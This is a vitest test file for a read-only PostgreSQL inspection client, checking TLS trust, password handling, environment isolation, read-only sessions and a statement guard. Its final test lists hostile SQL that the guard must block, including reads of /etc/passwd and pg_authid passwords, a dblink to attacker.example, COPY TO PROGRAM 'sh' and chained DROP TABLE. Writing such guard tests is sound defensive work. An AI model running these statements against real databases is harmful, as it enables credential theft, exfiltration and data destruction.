import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { z } from 'zod';
import { ApiError, type PostgresTarget, type Session } from '../src/inspect/api.ts';
import { talkPostgres } from '../src/inspect/postgres.ts';
import { Secret } from '../src/secret.ts';
import { certificateFor } from './certificate.ts';
import { type PostgresServer, startPostgres } from './postgres-server.ts';
import { ask, passwordOf, roles } from './rental.ts';

const certificate = certificateFor('db.corsa.example');
let server: PostgresServer;

beforeAll(async () => {
  server = await startPostgres({ certificate, hba: ['hostssl all legacy 127.0.0.1/32 password'] });
  await server.run('postgres', ...roles);
});

afterAll(() => server[Symbol.asyncDispose]());

const app = (more: Partial<PostgresTarget> = {}): PostgresTarget => ({
  host: 'db.corsa.example',
  port: server.port,
  user: 'app',
  database: 'rental_staging',
  password: new Secret(passwordOf('app')),
  ...more,
});

/** Dials this machine, whatever the host, and tells what it is told of where that is. */
const dialling = (loopback: boolean) =>
  async function dial(_: string, port: number) {
    const socket = connect(port, '127.0.0.1');
    await once(socket, 'connect');
    return { socket, address: loopback ? '127.0.0.1' : '198.51.100.7', loopback };
  };

const here = dialling(true);
const elsewhere = dialling(false);

const Me = z.object({ me: z.string() });
const whoami = (session: Session) => session.rows('SELECT current_user::text AS me', Me);
const errorOf = (talk: Promise<unknown>) =>
  talk.then(
    () => undefined,
    (error: unknown) => error as ApiError,
  );

describe('TLS', () => {
  const trusted = getCACertificates('default');
  afterAll(() => setDefaultCACertificates(trusted));

  test('is spoken with a server on another machine, to the name in its certificate', async () => {
    setDefaultCACertificates([...trusted, certificate.cert]);
    expect(await talkPostgres(app(), elsewhere, async (session) => [session.encrypted, await whoami(session)])).toEqual([
      true,
      [{ me: 'app' }],
    ]);
    expect(server.log().join('\n')).toMatch(/overreach\|app\|rental_staging\|.*SELECT \* FROM/);
  });

  test('is trusted with a password in clear', async () => {
    const legacy = app({ user: 'legacy', password: new Secret(passwordOf('legacy')) });
    expect(await talkPostgres(legacy, elsewhere, whoami)).toEqual([{ me: 'legacy' }]);
  });

  test('is spoken on this machine where the content wants it', async () => {
    expect(await talkPostgres(app({ sslmode: 'require' }), here, async ({ encrypted }) => encrypted)).toBe(true);
    expect(await talkPostgres(app({ sslmode: 'prefer' }), here, async ({ encrypted }) => encrypted)).toBe(false);
  });

  test.each([
    ['another name', 'db.elsewhere.example', [certificate.cert], 'ERR_TLS_CERT_ALTNAME_INVALID'],
    ['a certificate that nobody vouches for', 'db.corsa.example', [], 'DEPTH_ZERO_SELF_SIGNED_CERT'],
  ])('is not spoken to %s, and no login is tried', async (_, host, more, code) => {
    setDefaultCACertificates([...trusted, ...more]);
    const before = logins();
    const error = await errorOf(talkPostgres(app({ host }), elsewhere, whoami));
    expect(error).toBeInstanceOf(ApiError);
    expect(error).toMatchObject({
      kind: 'unanswered',
      message: expect.stringContaining(`no trusted TLS connection to ${host} (${code}).`),
    });
    expect(logins()).toBe(before);
  });

  test('trusts the authorities that the operator gives to the process, whatever else the environment says', async () => {
    const file = join(await mkdtemp(join(tmpdir(), 'overreach-authority-')), 'authority.pem');
    await writeFile(file, certificate.cert);
    const code = `
      import { connect } from 'node:net';
      import { talkPostgres } from ${JSON.stringify(new URL('../src/inspect/postgres.ts', import.meta.url).href)};
      import { Secret } from ${JSON.stringify(new URL('../src/secret.ts', import.meta.url).href)};
      const dial = async (_, port) => ({ socket: connect(port, '127.0.0.1'), address: '198.51.100.7', loopback: false });
      const target = { host: 'db.corsa.example', port: ${server.port}, user: 'app', database: 'rental_staging', password: new Secret(process.env.SECRET) };
      console.log(await talkPostgres(target, dial, async ({ encrypted }) => 'encrypted: ' + encrypted).catch(({ message }) => message));`;
    const said = async (env: Record<string, string>) => {
      const all = { SECRET: passwordOf('app'), NODE_NO_WARNINGS: '1', ...env };
      return (await promisify(execFile)(process.execPath, ['--input-type=module', '-e', code], { env: all })).stdout.trim();
    };
    expect(await said({ NODE_EXTRA_CA_CERTS: file })).toBe('encrypted: true');
    expect(await said({ NODE_TLS_REJECT_UNAUTHORIZED: '0' })).toContain('(DEPTH_ZERO_SELF_SIGNED_CERT)');
    await rm(dirname(file), { recursive: true });
  });
});

/** Logins that the server has seen begin. */
const logins = () => server.log().filter((line) => /connection authenticated|FATAL/.test(line)).length;

describe('a session', () => {
  const options = () => ({ allowHosts: ['127.0.0.1'] });
  const url = (login: string) => `postgres://${login}:${passwordOf(login)}@127.0.0.1:${server.port}/rental_staging`;

  test('is not held with a host that only content names', async () => {
    const before = server.log().length;
    const { reach, asked, failed } = await ask(url('app'), {});
    expect({ asked, failed }).toEqual({ asked: false, failed: false });
    expect(reach.unknowns).toEqual([expect.stringContaining('`--allow-host')]);
    expect(server.log()).toHaveLength(before);
  });

  test('says who asks, reads, and leaves no trace in the data', async () => {
    const next = async () => (await server.run('postgres', 'SELECT pg_snapshot_xmax(pg_current_snapshot())::text AS id'))[0]?.['id'];
    const [from, transaction] = [server.log().length, await next()];
    expect((await ask(url('oncall'), options())).reach.state).toBe('live');
    expect(await next()).toBe(transaction);
    const said = server.log().slice(from).join('\n');
    const statements = [...said.matchAll(/^(\S+)\|oncall\|rental_staging\|LOG: {2}(?:statement|execute <unnamed>): (.+)$/gm)];
    expect(new Set(statements.map(([, application]) => application))).toEqual(new Set(['overreach']));
    expect(statements[0]?.[2]).toBe(
      "BEGIN READ ONLY; SET LOCAL statement_timeout = '5s'; SET LOCAL lock_timeout = '1s'; SET LOCAL search_path = pg_catalog",
    );
    expect(statements.at(-1)?.[2]).toBe('ROLLBACK');
    expect(statements.slice(1, -1).every(([, , statement]) => statement?.startsWith('SELECT * FROM ('))).toBe(true);
    expect(statements.length).toBeGreaterThan(5);
  });

  test('is tried once, and a password that was refused is not tried again', async () => {
    const [from, wrong] = [logins(), url('app').replace(passwordOf('app'), passwordOf('nobody'))];
    expect((await ask(wrong, options())).reach.state).toBe('revoked');
    expect(logins()).toBe(from + 1);
  });

  test('takes nothing from the environment', async () => {
    const ambient = {
      PGHOST: '192.0.2.1',
      PGPORT: '1',
      PGUSER: 'postgres',
      PGDATABASE: 'postgres',
      PGPASSWORD: 'x',
      PGAPPNAME: 'psql',
      PGSSLMODE: 'no-verify',
    };
    for (const [name, text] of Object.entries({
      ...ambient,
      PGOPTIONS: '-c default_transaction_read_only=off -c role=none',
      PGSSLNEGOTIATION: 'direct',
      PGREPLICATION: 'true',
    }))
      vi.stubEnv(name, text);
    const from = server.log().length;
    expect(await talkPostgres(app(), here, whoami)).toEqual([{ me: 'app' }]);
    vi.unstubAllEnvs();
    expect(server.log().slice(from).join('\n')).toMatch(/overreach\|app\|rental_staging\|/);
  });

  test('has an end, by the clock of the server', async () => {
    const settings = ['transaction_read_only', 'statement_timeout', 'lock_timeout', 'search_path', 'client_encoding'];
    const sql = `SELECT ${settings.map((name) => `current_setting('${name}')`).join(" || ' ' || ")} AS me`;
    expect(await talkPostgres(app(), here, (session) => session.rows(sql, Me))).toEqual([{ me: 'on 5s 1s pg_catalog UTF8' }]);
  });

  test('goes on after a question that failed', async () => {
    const told = await talkPostgres(app(), here, async (session) => {
      const odd = await errorOf(session.rows('SELECT 1 AS me', Me));
      const failure = await errorOf(session.rows("SELECT current_setting('no.such') AS me", Me));
      const slow = errorOf(session.rows('SELECT count(*)::text AS me FROM pg_class a, pg_class b, pg_class c, pg_class d', Me));
      while (
        !(await server.run('postgres', `SELECT FROM pg_stat_activity WHERE application_name = 'overreach' AND state = 'active'`)).length
      );
      await server.run('postgres', `SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE application_name = 'overreach'`);
      return [odd?.kind, failure?.code, (await slow)?.message, await whoami(session)];
    });
    expect(told).toEqual(['malformed', '42704', 'PostgreSQL stopped a question that took too long (57014).', [{ me: 'app' }]]);
  });

  test.each([
    'DELETE FROM pg_class',
    'SELECT 1; DROP TABLE cars',
    'SELECT pg_terminate_backend(1) AS me',
    "SELECT pg_read_file('/etc/passwd') AS me",
    "SELECT lo_import('/etc/passwd') AS me",
    "SELECT dblink('host=attacker.example', 'SELECT 1') AS me",
    'SELECT public.count(1) AS me',
    'SELECT "lo_import" (1) AS me',
    'SELECT rolpassword AS me FROM pg_authid',
    'SELECT note AS me FROM public.cars',
    'SELECT c.note AS me FROM pg_class p, public.cars c',
    'SELECT query AS me FROM pg_stat_activity',
    'WITH gone AS (DELETE FROM pg_class) SELECT 1 AS me',
    'SELECT 1 AS me INTO cars',
    'SELECT 1 AS me FROM pg_class FOR UPDATE',
    "SELECT E'\\' || pg_sleep(1) || '' AS me",
    'SELECT $$a$$ AS me',
    "SELECT 'a' || 'b AS me",
    'SELECT 1 AS me -- and more',
    "COPY (SELECT 1) TO PROGRAM 'sh'",
    "SELECT set_config('role', 'root', false) AS me",
    'SELECT nextval(0) AS me',
  ])('cannot say %s', async (statement) => {
    const from = server.log().length;
    const error = await talkPostgres(app(), here, (session) => errorOf(session.rows(statement, Me)));
    expect(error).toMatchObject({ kind: 'forbidden', code: 'guard' });
    expect(server.log().slice(from).join('\n')).not.toContain(statement);
  });
});
